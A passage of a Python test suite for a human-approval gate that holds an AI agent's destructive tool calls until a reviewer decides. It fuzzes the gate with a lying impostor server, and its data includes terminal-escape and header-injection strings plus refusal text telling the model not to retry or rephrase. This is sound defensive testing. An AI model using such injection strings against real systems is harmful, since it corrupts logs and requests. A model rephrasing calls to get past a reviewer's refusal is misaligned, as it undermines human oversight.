            ("POST", "/claim/ran", "", {"digest": digest, "claim": bad}),
            ("POST", "/outcome/ran", "", {"claim": bad, "text": bad,
                                          "outcome": "failed"}),
            *(("GET", path, REVIEWER, None) for path in (
                "/", "/history", "/review/ran", "/review/r-why"))):
        status, headers, _ = desk_ask(desk, method, path, who, body)
        assert status == 200 and headers["Set-Cookie"] is None
    desk.post(bad)
    desk.raw(http("GET /\x1b[2J HTTP/1.1", "Host: a\x1b]0;x\x07"))
    lines = "\n".join(desk.lines).split("\n")
    assert all(line.isprintable() for line in lines)
    assert [re.search(r" (\w+) .*\[(.*?)\] by ", line).groups()
            for line in lines] == desk.rows(
                "SELECT event, subject FROM audit_log")


# ============================= Client and Gate =============================
# What an agent sees, also of an impostor that lies, and over a cable to the
# real desk that loses and changes.


class Impostor(Wire):
    """Says yes to all, and lies where it is told to: lies[request_id] is
    (step, lie), and lie(the good answer) yields what is sent instead."""

    GOOD = {"pending": ("waiting", None), "poll": ("approved", None),
            "claim": ("approved", "running"), "withdraw": ("expired", None),
            "outcome": ("approved", "executed")}

    def __init__(self) -> None:
        self.lies, self.digests, self.claims, self.more = {}, {}, set(), {}
        super().__init__(self.lie)

    def lie(self, path: str, request: bytes):
        step, _, request_id = path[1:].partition("?")[0].partition("/")
        if step == "pending" and not request_id:
            asked = json.loads(request.partition(b"\r\n\r\n")[2])
            request_id = asked["request_id"]
            self.digests[request_id] = asked["digest"]
        elif step == "pending":
            step = "poll"
        good = dict(zip(("status", "outcome"), self.GOOD[step],
                        strict=True)) | {
            "request_id": request_id, "digest": self.digests[request_id],
            "decided_by": "reviewer:eve", **self.more.get(step, {})}
        where, lie = self.lies.get(request_id, ("", None))
        if where == step:
            return lie(good)
        if step == "claim":
            self.claims.add(request_id)
        return [http_reply(good)]


def drip(data: bytes):
    """A byte at a time, without end."""
    while True:
        for byte in data:
            yield bytes([byte])
            time.sleep(0.02)


WIRES = {       # what comes instead of HTTP that is whole and in time
    "closes": lambda g: [], "resets": lambda g: [None],
    "half a head": lambda g: [b"HTTP/1.1 20", None],
    "half a body": lambda g: [http_reply(g)[:-20]],
    "half, reset": lambda g: [http_reply(g)[:-20], None],
    "3 GB": lambda g: [http_reply(g, length=3 << 30)],
    "less than none": lambda g: [http_reply(g, length=-5)],
    "a slow head": lambda g: drip(b"HTTP/1.1 200 OK\r\nX: "),
    "a slow body": lambda g: drip(http_reply(b" ", length=99_999)),
    "100 for ever": lambda g: drip(b"HTTP/1.1 100 Continue\r\n\r\n"),
    "an endless line": lambda g: [b"HTTP/1.1 200 OK\r\nX: " + b"x" * 99_999],
    "no HTTP": lambda g: [b"SSH-2.0-OpenSSH\r\n\r\n"],
    "a bad chunk": lambda g: [http_reply(b"zz\r\n{}").replace(
        b"Content-Length: 6", b"Transfer-Encoding: chunked")],
    "by type HTML": lambda g: [http_reply(g, kind="text/html")]}
BODIES = {      # JSON, or nearly
    "right": lambda g: g, "HTML": lambda g: b"<html>", "empty": lambda g: b"",
    "half": lambda g: json.dumps(g).encode()[:-40], "list": lambda g: [g],
    "two": lambda g: json.dumps(g).encode() * 2, "null": lambda g: b"null",
    "{}": lambda g: {}, "NaN": lambda g: g | {"x": float("nan")},
    "twice": lambda g: json.dumps(g).encode()[:-1] + b', "status": "x"}',
    "UTF-16": lambda g: json.dumps(g).encode("utf-16"),
    "deep": lambda g: b"[" * 100_000,
    "huge": lambda g: b" " * (2 << 20) + json.dumps(g).encode(),
    "problem": lambda g: {"reason": "approved", "title": "a\r\nb"},
    "digest": lambda g: g | {"digest": g["digest"][:-1] + "x"},
} | {f"{name} {value!r}": lambda g, n=name, v=value: g | {n: v}
     for name, values in {
         "request_id": ["other", None, ["r"]], "digest": [None, ""],
         "status": ["Approved", "yes", None, True, "rejected", ["approved"],
                    {}, "expired", "withdrawn"],
         "outcome": ["done", True, [], "executed", "failed", "lapsed"],
         "reason": [7]}.items() for value in values}
OTHER_STATUSES = (201, 202, 204, 206, 226, 299, 300, 301, 302, 307, 308, 400,
                  401, 403, 404, 409, 413, 418, 429, 500, 502, 503, 599, 999)


@pytest.mark.parametrize("step", ["pending", "poll", "claim"])
def test_promise_1_a_false_server(make_gate, monkeypatch, step):
    """A tool call that matches a checkpoint never runs without a recorded
    approval: whatever answers, the tool runs after a valid claim only, and
    the call ends within its time with an error that says a cure."""
    for name, value in (("UNREACHABLE_SECONDS", 0.2), ("MAX_REPLY", 1 << 20),
                        ("CLAIM_RETRY_SECONDS", 0.2)):
        monkeypatch.setattr(hitl, name, value)
    ran, todo = {}, list(WIRES.items()) + [
        (f"{status} {name}", lambda g, s=status, b=body: [http_reply(b(g), s)])
        for status in (200, *OTHER_STATUSES) for name, body in BODIES.items()
        if status == 200 or name in ("right", "{}") or LONG]

    def one(name: str, lie):
        request_id, began, error = name.encode().hex(), time.monotonic(), None
        impostor.lies[request_id] = step, lie
        try:
            gate.call("delete_records", CALL, lambda **a: ran.update(
                {request_id: a}), request_id=request_id)
        except hitl.HitlError as caught:
            error = caught
        assert time.monotonic() - began < 20, name
        if request_id in ran:
            assert error is None and ran[request_id] == CALL, name
            assert request_id in impostor.claims or (
                step == "claim" and name == "200 right"), name
        else:
            assert str(error).isprintable() and error.message, name
            assert error.hint or error.reason == "rejected", name
        return error

    def work() -> None:
        with contextlib.suppress(IndexError):
            while True:
                one(*todo.pop())
    with Impostor() as impostor:
        gate = make_gate(impostor, RULES.replace("= 20", "= 0.2"))
        for result in [in_background(work) for _ in range(32)]:
            result(60)
        monkeypatch.setattr(hitl, "UNREACHABLE_SECONDS", 10)
        gate = make_gate(impostor)              # with time enough it runs
        assert one("200 right", lambda g: [http_reply(g)]) is None
        assert one("yes", lambda g: [http_reply(g | {"status": "yes"})]
                   ).reason == "bad-reply"


def test_promise_1_the_server_is_down(make_gate, monkeypatch):
    """A server that is down when first asked is a refusal after
    UNREACHABLE_SECONDS, whatever the time-out; nothing runs."""
    monkeypatch.setattr(hitl, "UNREACHABLE_SECONDS", 0.3)
    ran, began = [], time.monotonic()
    with pytest.raises(hitl.UnreachableError, match=":9: .*hitl.py serve"):
        make_gate("http://127.0.0.1:9").call(
            "delete_records", CALL, ran.append, timeout_seconds=600)
    assert 0.1 < time.monotonic() - began < 20 and ran == []


@pytest.mark.parametrize("status, reason, kind", [
    (400, "bad-json", hitl.HitlError), (401, "stopped", hitl.UnreachableError),
    (403, "expired", hitl.UnreachableError), (404, "unknown", hitl.UnreachableError),
    (409, "stopped", hitl.CollaborationError), (409, "id-taken", hitl.ChangedError),
    (409, "lapsed", hitl.ReviewTimeoutError), (421, "x", hitl.UnreachableError),
    (429, "too-many-waiting", hitl.HitlError), (500, "x", hitl.UnreachableError),
    (503, "expired", hitl.ReviewTimeoutError)])
def test_a_refusal_of_the_server(make_gate, status, reason, kind):
    """What the server refuses is an error of the kind that its reason, else
    its status, names."""
    with Impostor() as impostor:
        impostor.lies["r-1"] = "pending", lambda good: [http_reply(
            {"reason": reason}, status)]
        with pytest.raises(hitl.HitlError) as refused:
            make_gate(impostor).call("delete_records", CALL, dict,
                                     request_id="r-1", timeout_seconds=0.1)
    assert (type(refused.value), refused.value.reason) == (kind, reason)


def test_a_poll_that_is_refused_ends_the_wait(make_gate):
    """A poll that is refused for good ends the wait at once; a server that goes
    away is ridden out until the deadline, and then the request is expired."""
    began = time.monotonic()
    with Impostor() as impostor:
        impostor.lies["r-1"] = "poll", lambda good: [http_reply({}, 404)]
        impostor.lies["r-2"] = "poll", WIRES["resets"]
        impostor.lies["r-3"] = "poll", WIRES["by type HTML"]    # in its last second
        for request_id, seconds, kind in (("r-1", 30, hitl.UnreachableError),
                                          ("r-3", 0.6, hitl.UnreachableError),
                                          ("r-2", 0.3, hitl.ReviewTimeoutError)):
            with pytest.raises(kind):
                make_gate(impostor).call("delete_records", CALL, dict, timeout_seconds=
                                         seconds, request_id=request_id)
    assert time.monotonic() - began < 15


def test_a_call_that_matches_nothing(make_gate):
    """A call that matches nothing costs a microsecond or two once its like was
    seen; one whose arguments can hold another call is looked at each time."""
    gate, began = make_gate("http://127.0.0.1:9"), time.thread_time()
    for _ in range(20_000):
        gate.call("read_records", {"n": 1}, dict)
    assert time.thread_time() - began < 0.4     # 0.03 here, else 0.6
    gate = make_gate("http://127.0.0.1:9", EDITABLE)
    for tool, arguments in (("run", {"name": "list_all", "arguments": {}}),
                            ("run", {"name": "delete_all", "arguments": {}}),
                            ("delete_it", {"table": "pets"}),
                            ("delete_it", {"table": "users"})):
        with contextlib.suppress(hitl.UnreachableError):
            gate.call(tool, arguments, dict, timeout_seconds=0.1)
            assert arguments.get("table") == "pets" or (
                arguments.get("name") == "list_all")


def test_no_proxy_and_the_token(make_gate, make_desk, monkeypatch, caplog):
    """No proxies from the environment; HITL_AGENT_TOKEN is the credential,
    and stands in no message; a wrong one is named with its cure, and not
    before the model. A reviewer's token in an agent is worth a WARNING."""
    desk = make_desk(agent_token=AGENT_TOKEN)
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    for token in (None, "not-this-one-0123456"):
        with pytest.raises(hitl.UnreachableError) as wrong:
            make_gate(desk, token=token).call("delete_records", CALL, dict)
        assert wrong.value.hint == (
            "set HITL_AGENT_TOKEN, or Gate(token=), to an agent token that "
            "serve knows") and "oken" not in wrong.value.told
    with pytest.raises(hitl.ConfigError) as caught:
        make_gate(desk, token=AGENT_TOKEN + "\nX: y")
    monkeypatch.setenv("HITL_AGENT_TOKEN", AGENT_TOKEN + "\n")
    assert decided(make_gate(desk), desk)() == CALL
    monkeypatch.setenv("HITL_REVIEWER_TOKEN", REVIEWER_TOKEN)
    make_gate(desk)
    assert caplog.messages[-1].startswith("HITL_REVIEWER_TOKEN is in the env")
    assert not {AGENT_TOKEN, REVIEWER_TOKEN} & set(
        (str(caught.value) + caplog.text).split())


def test_https(make_gate, desk, certificate, monkeypatch):
    """The gate speaks https, trusts what [gate] tls_ca or SSL_CERT_FILE
    names, and says at once what is wrong with another certificate."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate)
    began = time.monotonic()
    with Wire(lambda _, request: [desk.raw(request, 20)], context) as wire:
        with pytest.raises(hitl.UnreachableError) as error:
            make_gate(wire).call("delete_records", CALL, dict)
        assert time.monotonic() - began < 9 and str(error.value) == (
            f"the certificate of {wire.url} is not trusted: self-signed "
            "certificate (name the authority that signed it: [gate] tls_ca = "
            '"ca.pem", or SSL_CERT_FILE)')
        trusting = RULES.replace("[gate]", f"[gate]\ntls_ca = '{certificate}'")
        gate = make_gate(wire, trusting)
        assert decided(gate, desk)() == CALL
        for words in ["check"], ["standing"]:
            done = typed(desk, *words, "--config", str(gate.configuration.path),
                         HITL_SERVER_URL=wire.url)
            assert done.status == 0 and "trusted" not in done.out, done
        with pytest.raises(hitl.ConfigError, match="tls_ca: .*none.pem"):
            make_gate(wire, trusting.replace(str(certificate), "none.pem"))
        monkeypatch.setenv("SSL_CERT_FILE", str(certificate))
        assert decided(make_gate(wire), desk)() == CALL


# ---- what a person says reaches the agent ----

def calling(gate, execute=dict, *, tool="delete_records", arguments=CALL,
            way="call", **more):
    """A call in the background -> a function that gives its result. `dict`
    as the tool gives back what it was given, as if hold's caller ran it."""
    def run():
        if way == "guard":
            @gate.guard
            def delete_records(table: str, condition: str):
                return execute(table=table, condition=condition)
            return delete_records(**arguments)
        tools = (execute,) if "call" in way else ()
        result = getattr(gate, way)(tool, arguments, *tools, **more)
        result = asyncio.run(result) if asyncio.iscoroutine(result) else result
        return result.arguments if isinstance(result, hitl.Held) else result
    return in_background(run)


def decided(gate, desk, execute=dict, decision="approved", reason=None, **more):
    """A call that waits and is decided -> a function for its result."""
    result = calling(gate, execute, **more)
    card, = desk.waiting()
    assert desk.decide(card["request_id"], decision, reason=reason).status == 200
    return result


def unanswered(gate, desk, execute=dict, **more):
    """A call that waits until its time is over, by a clock we turn."""
    result = calling(gate, execute, **more)
    desk.waiting()
    desk.clock.time += 21
    return result


def newest(desk, columns: str = "status, outcome") -> tuple:
    return tuple(desk.rows(f"SELECT {columns} FROM pending_reviews "
                           "ORDER BY id DESC LIMIT 1")[0])


WAYS = ["call", "acall", "require", "arequire", "guard"]
REJECTED = "rejected by ana: use the staging table"
NOBODY = 'nobody decided "Delete users where id = 3" within 20 s; nothing ran'
DENIED = 'denied by checkpoint "no-drop"; nobody was asked and nothing ran'
EFFECTS = RULES + """
[[checkpoint]]
checkpoint_id = "no-drop"
action_pattern = "drop"
description_template = "Drop"
effect = "deny"

[[checkpoint]]
checkpoint_id = "reads"
action_pattern = "read_.*"
description_template = "Read"
effect = "allow"
"""
BRIEF = EFFECTS.replace("= 20", "= 0.4")


@pytest.mark.parametrize("way", WAYS)
def test_every_end(make_gate, make_desk, caplog, way):
    """Approved: the tool runs, its result is returned, the outcome recorded.
    Rejected: logged at ERROR in full, then raised. Nobody (promise 4): a
    TimeoutError that says so in full, `expired`, a late click 409. Denied,
    allowed or matched by nothing: nobody is asked."""
    desk, ran = make_desk(clock=Clock()), []
    gate = make_gate(desk, EFFECTS)
    assert decided(gate, desk, way=way)() == CALL
    assert newest(desk, "status, outcome, handed_over") == (
        ("approved", "running", 1) if "require" in way
        else ("approved", "executed", None))
    with pytest.raises(hitl.CollaborationError) as no:
        decided(gate, desk, lambda **a: ran.append(a), "rejected",
                "use the staging table", way=way)()
    assert (type(no.value), str(no.value)) == (hitl.CollaborationError,
                                               REJECTED)
    gate = make_gate(desk, EFFECTS)     # in which no rejection stands
    with pytest.raises(TimeoutError) as late:
        unanswered(gate, desk, lambda **a: ran.append(a), way=way)()
    assert (type(late.value), str(late.value)) == (
        hitl.ReviewTimeoutError, f"{NOBODY} (raise timeout_seconds in "
        f"{gate.configuration.path}: people usually need 300 or more)")
    assert newest(desk) == ("expired", None)
    said = desk.decide(newest(desk, "request_id")[0])
    assert (said.status, said.reason) == (409, "expired") and ran == []
    assert [r.message for r in caplog.records if r.levelname == "ERROR"] == [
        f"CollaborationError: {REJECTED}", f"ReviewTimeoutError: {late.value}"]
    if way != "guard":
        with pytest.raises(hitl.DeniedError, match=DENIED):
            calling(gate, tool="drop_table", way=way)()
        for tool in ("read_file", "read_file", "list_files"):
            assert calling(gate, tool=tool, way=way)() == CALL
        with pytest.raises(hitl.ConfigError, match='no checkpoint "nope"'):
            calling(gate, tool="read_file", way=way, checkpoint="nope")()
    assert len(desk.rows("SELECT 1 FROM pending_reviews")) == 3


def test_a_tool_that_raises(make_gate, desk, caplog):
    """What execute raises passes through, also with on_reject="return",
    and the outcome is failed. That a report was not taken is logged."""
    gate = make_gate(desk, on_reject="return")
    for way, error, text in (
            ("call", ZeroDivisionError("no"), "ZeroDivisionError: no"),
            ("acall", SystemExit(3), "SystemExit: 3"),
            ("call", type("Mute", (Exception,), {"__str__": len})(), "Mute"),
            ("guard", hitl.DeniedError("inner"), "DeniedError: inner")):
        def fail(error=error, **_):
            raise error
        with pytest.raises(type(error)) as caught:
            decided(gate, desk, fail, way=way)()
        assert caught.value is error
        assert newest(desk, "outcome, outcome_text") == ("failed", text)
        with pytest.raises(type(error)):        # and where nobody is asked
            gate.call(f"list_{text[:3]}", CALL, fail)
    with Impostor() as impostor:
        impostor.lies["r-1"] = "outcome", lambda good: [http_reply({}, 404)]
        assert make_gate(impostor).call("delete_records", CALL, dict,
                                        request_id="r-1") == CALL
    assert caplog.messages[-1] == (
        "the outcome of r-1 was not recorded: the server refused: 404")


@pytest.mark.parametrize("way", ["call", "acall"])
def test_refusals_as_text(make_gate, make_desk, way):
    """on_reject="return" gives a rejection, a denial or an expiry as text
    that says who, why, and not to retry or rephrase; others still raise."""
    end = (". The call did not run. Do not retry it or rephrase it; tell the "
           "user, or do something else.")
    desk = make_desk(clock=Clock())
    gate = make_gate(desk, EFFECTS, on_reject="return")
    assert decided(gate, desk, way=way, decision="rejected",
                   reason="use the staging table")() == REJECTED + end
    gate = make_gate(desk, EFFECTS, on_reject="return")
    assert unanswered(gate, desk, way=way)() == NOBODY + end
    assert calling(gate, tool="drop", way=way)() == DENIED + end
    desk.post("taken")
    for error, more in ((hitl.ConfigError, {"checkpoint": "nope"}),
                        (hitl.ChangedError, {"request_id": "taken"}),
                        (hitl.HitlError, {"arguments": {"table": (1,)}})):
        with pytest.raises(error):
            calling(gate, way=way, **more)()


def test_refusals_as_the_frameworks_own(make_gate, caplog):
    """on_reject takes an exception class, raised with that text alone, or a
    callable, whose result is given; what ends a process is refused. A person
    reads why in the log, the model does not."""
    gate = make_gate("http://127.0.0.1:9", EFFECTS, on_reject=KeyError)
    with pytest.raises(KeyError, match="denied by .*Do not retry") as told:
        gate.call("drop", CALL, dict)
    assert told.value.__cause__ is None and told.value.__suppress_context__
    assert "checkpoints.toml" in caplog.text
    assert "checkpoints.toml" not in str(told.value)
    gate = make_gate("http://127.0.0.1:9", EFFECTS, on_reject=len)
    assert asyncio.run(gate.acall("drop", CALL, dict)) > 80
    for wrong in ("ignore", None, SystemExit, 7):
        with pytest.raises(hitl.ConfigError, match="on_reject is"):
            make_gate(on_reject=wrong)


def test_hold(make_gate, desk):
    """hold gives whoever runs a call its approved arguments, claimed, None
    where nothing holds it; until it is reported it is handed over."""
    gate = make_gate(desk, EFFECTS)
    for error, end in ((OSError("no"), ("failed", "OSError: no")),
                       (None, ("executed", ""))):
        assert gate.hold("read_file", {}) is None
        person = in_background(lambda: desk.decide(
            desk.waiting()[0]["request_id"]))
        held = gate.hold("delete_records", CALL)
        person()
        assert (held.arguments, held.approved_by) == (CALL, "ana")
        assert newest(desk, "request_id, outcome, handed_over") == (
            held.request_id, "running", 1)
        assert "outcome: handed over" in Page(desk.page()).text
        assert re.search("outcome +handed over\n", typed(
            desk, "show", held.request_id).out)
        held.report(error)
        assert newest(desk, "outcome, outcome_text") == end


EDITABLE = RULES + """editable = true
arguments = { table = "users|orders" }

[[checkpoint]]
checkpoint_id = "no-secrets"
action_pattern = "delete_*"
description_template = "Delete secrets"
arguments = { table = "secrets" }
effect = "deny"
"""


@pytest.mark.parametrize("way", ["call", "acall", "ahold"])
def test_changed_before_approval(make_gate, make_desk, way):
    """What runs is what was approved: where the reviewer changed the
    arguments, those, and the model is told; a change into another checkpoint
    is refused, and so is one that this call did not allow."""
    desk = make_desk(rules=make_gate(rules=EDITABLE).rules)
    gate = make_gate(desk, EDITABLE, on_reject="return")

    def changed(table: str, edits: bool = True):
        more = {} if edits and way != "ahold" else {"edits": edits}
        result = calling(gate, lambda **a: f"deleted {a['table']}", way=way,
                         request_id=f"{way}-{table}", **more)
        card, = desk.waiting()
        said = desk.decide(card["request_id"], digest=card["digest"],
                           arguments=CALL | {"table": table})
        assert said.status == 200 or not edits, said
        return said.reason, result
    words = 'changed by ana: {table: "users" -> "orders"}'
    assert changed("orders")[1]() == (
        CALL | {"table": "orders"} if way == "ahold"
        else f"{words}\ndeleted orders")
    with pytest.raises(hitl.ChangedError, match="nothing ran"):
        changed("secrets")[1]()
    assert newest(desk, "outcome, outcome_text") == (
        "failed", "checkpoint-changed")
    reason, result = changed("pets", edits=False)
    assert reason == "not-editable"
    desk.decide(f"{way}-pets", "rejected")
    if way == "ahold":
        pytest.raises(hitl.CollaborationError, result)
    else:
        assert result().startswith("rejected by ana.")


def test_promise_2_a_false_claim(make_gate):
    """Where the reviewer changed a call, what runs is what was approved: with
    any byte of the claim's reply another, nothing runs, or just that; where
    no change was asked for, nothing is claimed."""
    ran, edited = {}, CALL | {"table": "orders"}
    digest = hitl.digest_of("Delete users where id = 3",
                            hitl.canonical(edited), "delete_records")

    def call(at: int) -> None:
        def lie(good):
            body = bytearray(json.dumps(good).encode())
            if at >= 0:
                body[at % len(body)] = ord("x" if body[at % len(body)] != ord(
                    "x") else "y")
            return [http_reply(bytes(body))]
        impostor.lies[f"r{at}"] = "claim", lie
        with contextlib.suppress(hitl.HitlError):
            gate.call("delete_records", CALL, lambda **a: ran.update({at: a}),
                      request_id=f"r{at}")
    with Impostor() as impostor:
        impostor.more = {"poll": {"approved_digest": digest}, "claim": {
            "approved_digest": digest, "arguments": edited}}
        gate = make_gate(impostor, EDITABLE, on_reject="return")
        places = range(-1, 420, 1 if LONG else 3)
        for start in range(0, len(places), 20):
            for result in [in_background(call, at)
                           for at in places[start:start + 20]]:
                result()
        assert set(map(str, ran.values())) == {str(edited)} and -1 in ran
        assert len(ran) < 5
        impostor.claims.clear()
        for rules, edits in ((EDITABLE, False), (RULES, True)):
            with pytest.raises(hitl.ChangedError, match="did not allow"):
                make_gate(impostor, rules).call("delete_records", CALL, dict,
                                                edits=edits)
        assert impostor.claims == set()


def test_who_asks(make_gate, make_desk, monkeypatch):
    """The name on the card: agent, else HITL_AGENT, else user@host:folder. A
    gate's session is random; its own or the call's may be named; what is asked
    again by its request_id needs none. A call that was rejected is told so at
    once when it is asked again in the same session, and how long ago, by the
    server's clock alone."""
    desk = make_desk(clock=Clock())

    def sent(column, gate, **more):
        decided(gate, desk, **more)()
        return newest(desk, column)[0]
    session = functools.partial(sent, "session")
    assert sent("agent", make_gate(desk)).endswith(f":{os.getcwd()}")
    monkeypatch.setenv("HITL_AGENT", "the cleaner")
    one, two = make_gate(desk), make_gate(desk, agent="another")
    assert [sent("agent", gate) for gate in (one, two)] == [
        "the cleaner", "another"]
    assert len({session(one), session(one), session(two)}) == 2
    named = make_gate(desk, session="for ana")
    assert session(named, request_id="a") == "for ana"
    assert (session(named, session="for ben"), session(named, session=""),
            session(one, request_id="b")) == ("for ben", None, None)
    for wrong in ("x" * 129, 7):
        with pytest.raises(hitl.HitlError, match='refused: .*"session"'):
            one.call("delete_records", CALL, dict, session=wrong)
    with pytest.raises(hitl.CollaborationError, match="^rejected by ana: no$"):
        decided(one, desk, decision="rejected", reason="no")()
    desk.clock.time += 240
    with pytest.raises(hitl.CollaborationError,
                       match="^rejected by ana 4 min ago: no$"):
        one.call("delete_records", CALL, dict)


def test_attached_to_another_call(make_gate):
    """A gate follows another request_id only to the very call that it asked
    about, and only where it asked to be attached (promise 2)."""
    ran: list = []
    with Impostor() as impostor:
        for lie in ({"request_id": "other", "digest": "0" * 64},
                    {"request_id": "../x"}, {"request_id": None}):
            impostor.lies["r"] = "pending", lambda g, x=lie: [http_reply(g | x)]
            for attach in (True, False):
                with pytest.raises(hitl.ChangedError, match="another call"):
                    make_gate(impostor).call("delete_records", CALL, ran.append,
                                             request_id="r", attach=attach)
        assert ran == [] and impostor.claims == set()


@pytest.mark.parametrize("count", [40, pytest.param(2000, marks=long)])
def test_promise_4_a_race_at_the_deadline(make_gate, desk, count):
    """An approval and the end of the wait at one instant: either it ran and
    is approved, or it did not run and is not."""
    gate, ran, silent = make_gate(desk), set(), set()

    def one(number: int) -> None:
        timer = threading.Timer(0.28 + number % 20 / 400, desk.decide,
                                [f"r-{number}"])
        timer.start()
        try:
            gate.call("delete_records", CALL, lambda **_: ran.add(number),
                      request_id=f"r-{number}", timeout_seconds=0.3)
        except (hitl.ReviewTimeoutError, hitl.UnreachableError):
            silent.add(number)
        timer.join()
    for start in range(0, count, 40):
        for result in [in_background(one, start + n) for n in range(40)]:
            result()
    assert not ran & silent and len(ran | silent) == count
    assert ran == {int(name[2:]) for name, in desk.rows(
        "SELECT request_id FROM pending_reviews WHERE status = 'approved' "
        "AND outcome = 'executed'")}


@pytest.mark.parametrize("decision", ["rejected", "approved"])
def test_promise_4_a_reviewer_was_faster(make_gate, make_desk, decision):
    """The answer to the withdrawal decides: if a reviewer was faster and
    approved, the call runs; if rejected, that is raised."""
    desk = make_desk(clock=Clock())     # stands: its deadline never comes

    def answer(path: str, request: bytes):
        if path.startswith("/withdraw/"):       # at the last moment
            desk.decide(path.rpartition("/")[2], decision, reason="no")
        yield desk.raw(request, 20)
    with Wire(answer) as wire:
        result = calling(make_gate(wire, BRIEF))
        if decision == "approved":
            assert result() == CALL
        else:
            with pytest.raises(hitl.CollaborationError, match="by ana: no"):
                result()


def test_timeouts(make_gate, make_desk):
    """timeout_seconds: the call's over the checkpoint's over [gate]'s; inf
    has no deadline; with a longer lifetime_seconds the request outlives the
    wait, and the same call asked again picks up its decision."""
    desk, inf = make_desk(clock=Clock()), float("inf")
    rules, at = RULES + "timeout_seconds = 200\n", hitl.datetime.fromisoformat
    for text, given, seconds in (
            (RULES, None, 20), (rules, None, 200), (rules, 100, 100),
            (rules, inf, None), (RULES.replace("= 20", "= inf"), None, None),
            (rules + "lifetime_seconds = 900\n", 100, 900)):
        decided(make_gate(desk, text), desk, timeout_seconds=given)()
        start, end = newest(desk, "received_at, deadline")
        assert seconds == (end and (at(end) - at(start)).total_seconds())
    gate = make_gate(desk, BRIEF.replace("= 0.4", "= 0.4\nlifetime_seconds = 60"))
    with pytest.raises(hitl.ReviewTimeoutError, match="nothing ran .the "
                       'request still waits: .* request_id "again"'):
        gate.call("delete_records", CALL, dict, request_id="again")
    assert desk.decide("again").status == 200
    assert gate.call("delete_records", CALL, dict, request_id="again") == CALL
    result = calling(make_gate(desk, RULES.replace(
        "= 20", "= 9\nlifetime_seconds = 7")))
    desk.waiting()
    desk.clock.time += 8                # the server's clock is first
    with pytest.raises(TimeoutError, match='nobody decided "Delete .* 7 s.*raise '
                       "lifetime_seconds in"):
        result()


def test_attach(make_gate, make_desk):
    """The same request_id with the same digest is the same request and meets
    what is there; other content under it is refused."""
    desk = make_desk(clock=Clock())
    gate = make_gate(desk)

    def meets(request_id: str, **more):
        return gate.call("delete_records", CALL | more, dict,
                         request_id=request_id)
    for name in ("waiting", "approved", "rejected", "expired", "lapsed",
                 "withdrawn"):          # as crashed agents left them
        desk.post(name, timeout_seconds=20, tool="delete_records",
                  arguments=CALL, checkpoint_id="delete-records")
    for name in ("approved", "lapsed"):
        desk.decide(name)
    desk.decide("rejected", "rejected", reason="no")
    desk.agent().exchange("POST", "/withdraw/withdrawn", {"why": "x"},
                          seconds=9)
    result = in_background(meets, "waiting")
    desk.decide("waiting")
    assert result() == meets("approved") == CALL
    desk.clock.time += 3600
    until(lambda: desk.state("lapsed")["outcome"])
    for name, error, words in (
            ("approved", hitl.AlreadyClaimedError, "another request_id"),
            ("rejected", hitl.CollaborationError, "^rejected by ana: no$"),
            *((name, hitl.ReviewTimeoutError, f"is {name}; nothing ran .ask "
               "again with another") for name in ("withdrawn", "expired",
                                                 "lapsed"))):
        for _ in range(2):
            with pytest.raises(error, match=words):
                meets(name)
    with pytest.raises(hitl.ChangedError):
        meets("approved", table="x")
    assert len(desk.rows("SELECT 1 FROM pending_reviews")) == 6


# ---- promises 2 and 3 ----

def test_promise_2_the_callers_dict_changes(make_gate, desk):
    """What runs is what was digested and shown, whatever becomes of the
    caller's dictionary while it waits."""
    theirs = {"table": "users", "condition": {"ids": [3]}}
    result = calling(make_gate(desk), arguments=theirs)
    card, = desk.waiting()
    theirs |= {"table": "everything", "more": True}
    theirs["condition"]["ids"].append(4)
    desk.decide(card["request_id"])
    assert result() == card["arguments"] == {
        "table": "users", "condition": {"ids": [3]}}


def test_promise_3_a_lost_reply(make_gate, desk, caplog):
    """A lost reply is asked for again with the same request or claim, also
    where a proxy answers for a server that is away, and the call runs once.
    Once is not worth a word."""
    lost, ran = set(), []
    steps = sorted(5 * ["/pending", "/pending/", "/claim/", "/outcome/"])
    away = http_reply(b"<h1>Bad gateway", 502, "text/html")

    def lose(path: str, request: bytes):
        number = int((re.search(r"/(\d+)", path) or re.search(
            r'"request_id":\s*"(\d+)', request.decode()))[1])
        answer = desk.raw(request, 20)
        if number in lost or re.sub(r"[\d?].*", "", path) != steps[number]:
            return [answer]
        lost.add(number)
        return ([], [None], [answer[:40]], [answer[:-30]], [away])[number % 5]
    with Wire(lose) as wire:
        results = [calling(make_gate(wire), lambda **a: ran.append(a),
                           arguments={"n": number}, request_id=str(number))
                   for number in range(20)]
        assert len(desk.waiting(20)) == 20
        for number in range(20):
            desk.decide(str(number))
        assert [result() for result in results] == [None] * 20
    assert len(lost) == 20 and "trying again" not in caplog.text
    assert sorted(a["n"] for a in ran) == list(range(20))
    assert [tuple(row) for row in desk.rows(
        "SELECT COUNT(*), outcome FROM pending_reviews GROUP BY outcome")
        ] == [(20, "executed")]


def test_promise_3_twelve_at_a_barrier(make_gate, desk, caplog):
    """One approval runs one call, once: of twelve with one request_id at a
    barrier one runs, the others are told AlreadyClaimedError; a restart of
    the server meanwhile is ridden out."""
    barrier, ran, lost = threading.Barrier(12), [], []
    gate = make_gate(desk)

    def one() -> None:
        barrier.wait()
        try:
            gate.call("delete_records", CALL, lambda **a: ran.append(a),
                      request_id="r-1")
        except hitl.AlreadyClaimedError:
            lost.append(1)
    results = [in_background(one) for _ in range(12)]
    assert len(desk.waiting()) == 1
    desk.stop()
    assert until(lambda: "trying again" in caplog.text)
    desk.start(desk.port)
    desk.decide("r-1")
    for result in results:
        result()
    assert (ran, len(lost)) == ([CALL], 11)


@pytest.mark.parametrize("hours", [-30, 30])
def test_a_clock_turned_by_hours(make_gate, make_desk, hours):
    """A server's clock turned by hours either way: no approval after a
    TimeoutError, and nothing ran."""
    desk, ran = make_desk(clock=Clock()), []
    result = calling(make_gate(desk, RULES.replace("= 20", "= 0.5")),
                     lambda **a: ran.append(a), request_id="r-1")
    assert until(lambda: desk.server.waiters)
    desk.clock.time += hours * 3600
    with pytest.raises(hitl.ReviewTimeoutError):
        result()
    assert desk.decide("r-1").status == 409
    assert ran == [] and desk.state("r-1")["status"] == "expired"


# ---- an agent as a process of its own ----

class Agent:
    """A process that makes the one call of these tests."""

    def __init__(self, where, desk, config: Path, name: str) -> None:
        self.desk, self.name = desk, name
        self.process = start(sys.executable, "-W", "error", "-c", f"""
